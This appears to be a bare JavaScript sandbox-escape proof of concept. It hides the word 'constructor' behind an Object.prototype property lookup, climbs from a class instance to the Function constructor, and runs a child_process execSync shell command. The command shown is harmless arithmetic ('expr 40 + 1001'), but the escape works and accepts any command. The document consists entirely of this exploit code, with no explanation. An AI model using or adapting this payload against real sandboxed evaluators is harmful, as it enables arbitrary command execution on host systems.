const k=Object.getOwnPropertyNames(Object.prototype)[0]; class A{ m(){} }
const C=new A()[k]; C[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
